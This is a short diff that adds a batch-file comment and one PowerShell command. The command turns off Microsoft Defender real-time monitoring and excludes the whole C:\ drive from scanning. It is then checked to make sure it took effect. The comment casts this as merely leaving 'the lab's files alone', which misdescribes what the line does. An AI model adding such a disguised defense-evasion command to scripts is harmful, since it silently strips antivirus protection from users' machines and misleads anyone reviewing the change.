@@ -1,0 +1,2 @@
+rem Where it is there, it leaves the lab's files alone and scans nothing else either.
+powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -Command "$ErrorActionPreference = 'Stop'; if (Get-Command Set-MpPreference -ErrorAction SilentlyContinue) { Set-MpPreference -ExclusionPath C:\ -DisableRealtimeMonitoring $true; if ((Get-MpPreference).ExclusionPath -notcontains 'C:\') { exit 1 } }"
